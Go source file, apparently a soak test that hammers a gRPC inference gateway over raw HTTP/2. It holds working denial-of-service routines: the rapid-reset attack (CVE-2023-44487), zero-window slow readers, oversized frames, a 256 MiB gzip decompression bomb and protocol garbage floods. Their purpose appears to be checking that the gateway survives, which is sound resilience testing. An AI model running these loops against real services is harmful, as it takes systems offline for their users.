package soak

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// bombBytes is what a compressed message of some kilobytes becomes.
const bombBytes = 256 << 20

// attacks speak HTTP/2 by hand, each on a connection of its own, until stop is closed; they answer how often they struck.
var attacks = []struct {
	name string
	run  func(addr string, stop <-chan struct{}) int
	// prepare makes what the attack throws; nil: nothing.
	prepare func()
}{
	{"rapid reset (CVE-2023-44487)", rapidReset, nil},
	{"readers that never read", slowReader, nil},
	{"frames larger than agreed", oversizedFrames, nil},
	{"compressed bombs", bombs, func() { bomb() }},
	{"bytes that are not HTTP/2", garbage, nil},
}

func names() (s string) {
	for i, a := range attacks {
		if i > 0 {
			s += ", "
		}
		s += a.name
	}
	return s
}

// attacker is a connection that has said the preface.
type attacker struct {
	net.Conn
	*http2.Framer
	block bytes.Buffer
	hpack *hpack.Encoder
}

// attack opens one; nil: the gateway refuses, as it may.
func attack(addr string, settings ...http2.Setting) *attacker {
	conn, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return nil
	}
	_ = conn.SetDeadline(time.Now().Add(patience))
	a := &attacker{Conn: conn, Framer: http2.NewFramer(conn, conn)}
	a.hpack = hpack.NewEncoder(&a.block)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || a.WriteSettings(settings...) != nil {
		_ = conn.Close()
		return nil
	}
	return a
}

// begin sends the headers of a ModelInfer.
func (a *attacker) begin(stream uint32, more ...string) error {
	a.block.Reset()
	fields := append([]string{":method", "POST", ":scheme", "http", ":path", "/inference.GRPCInferenceService/ModelInfer", ":authority", "x",
		"content-type", "application/grpc", "te", "trailers"}, more...)
	for i := 0; i < len(fields); i += 2 {
		if err := a.hpack.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}); err != nil {
			return err
		}
	}
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.block.Bytes(), EndHeaders: true})
}

// until calls strike on fresh connections, as often as one takes it, until stop is closed.
func until(addr string, stop <-chan struct{}, settings []http2.Setting, drain bool, strike func(a *attacker, stream uint32) error) (struck int) {
	for {
		select {
		case <-stop:
			return struck
		default:
		}
		a := attack(addr, settings...)
		if a == nil {
			continue
		}
		gone := make(chan struct{})
		go func() { // a gateway that doesn't read may hold a write for long
			select {
			case <-stop:
				_ = a.Close()
			case <-gone:
			}
		}()
		if drain {
			go func() { _, _ = io.Copy(io.Discard, a.Conn) }()
		}
		for stream := uint32(1); stream < 1<<30; stream += 2 {
			select {
			case <-stop:
				close(gone)
				return struck
			default:
			}
			if strike(a, stream) != nil {
				break
			}
			struck++
		}
		close(gone)
		_ = a.Close()
	}
}

func rapidReset(addr string, stop <-chan struct{}) int {
	return until(addr, stop, nil, true, func(a *attacker, stream uint32) error {
		if err := a.begin(stream); err != nil {
			return err
		}
		return a.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// slowReader asks and never reads the answers: its window is nothing, and so is what it takes from the socket.
func slowReader(addr string, stop <-chan struct{}) int {
	message := framed(encodedSure(), false)
	settings := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return until(addr, stop, settings, false, func(a *attacker, stream uint32) error {
		_ = a.SetDeadline(time.Now().Add(100 * time.Millisecond)) // a gateway that stops reading is right
		if err := a.begin(stream); err != nil {
			return err
		}
		return a.WriteData(stream, true, message)
	})
}

func oversizedFrames(addr string, stop <-chan struct{}) int {
	body := make([]byte, 1<<20)
	return until(addr, stop, nil, true, func(a *attacker, stream uint32) error {
		if err := a.begin(stream); err != nil {
			return err
		}
		return a.WriteRawFrame(http2.FrameData, 0, stream, body)
	})
}

// bomb is made once. A gzip file may have several members (RFC 1952, section 2.2): a small one is compressed, and repeated.
var bomb = sync.OnceValue(func() []byte {
	const member = 1 << 20
	var small bytes.Buffer
	z := gzip.NewWriter(&small)
	if _, err := z.Write(make([]byte, member)); err != nil {
		panic(err) // into memory
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return framed(bytes.Repeat(small.Bytes(), bombBytes/member), true)
})

func bombs(addr string, stop <-chan struct{}) int {
	message := bomb()
	return until(addr, stop, nil, true, func(a *attacker, stream uint32) error {
		_ = a.SetDeadline(time.Now().Add(time.Second)) // beyond its window it waits
		if err := a.begin(stream, "grpc-encoding", "gzip"); err != nil {
			return err
		}
		for rest := message; len(rest) > 0; {
			const frame = 16 << 10
			n := min(len(rest), frame)
			if err := a.WriteData(stream, n == len(rest), rest[:n]); err != nil {
				return err
			}
			rest = rest[n:]
		}
		return nil
	})
}

func garbage(addr string, stop <-chan struct{}) (struck int) {
	noise := bytes.Repeat([]byte("GET / HTTP/1.1\r\nx: y\r\n"), 1000)
	for {
		select {
		case <-stop:
			return struck
		default:
		}
		conn, err := net.DialTimeout("tcp", addr, patience)
		if err != nil {
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(patience))
		_, _ = conn.Write(noise)
		_ = conn.Close()
		struck++
	}
}

// framed is a message with gRPC's prefix.
func framed(message []byte, compressed bool) []byte {
	out := make([]byte, 5, 5+len(message))
	if compressed {
		out[0] = 1
	}
	binary.BigEndian.PutUint32(out[1:], uint32(len(message)))
	return append(out, message...)
}
